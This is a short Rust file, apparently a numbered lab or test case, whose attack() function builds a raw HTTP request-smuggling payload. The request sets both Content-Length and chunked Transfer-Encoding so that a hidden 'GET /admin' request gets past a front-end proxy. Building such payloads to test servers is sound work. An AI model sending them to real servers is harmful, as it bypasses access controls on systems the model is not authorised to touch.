//! 05.5: for the proxy it is a body, for the server the body is empty.

pub fn attack() -> Vec<u8> {
    let hidden = "GET /admin HTTP/1.1\r\nHost: a\r\n\r\n";
    let body = format!("0\r\n\r\n{hidden}");
    let size = body.len();
    format!(
        "POST /ping HTTP/1.1\r\nHost: a\r\nContent-Length: {size}\r\n\
         Transfer-Encoding: chunked\r\n\r\n{body}"
    )
    .into_bytes()
}
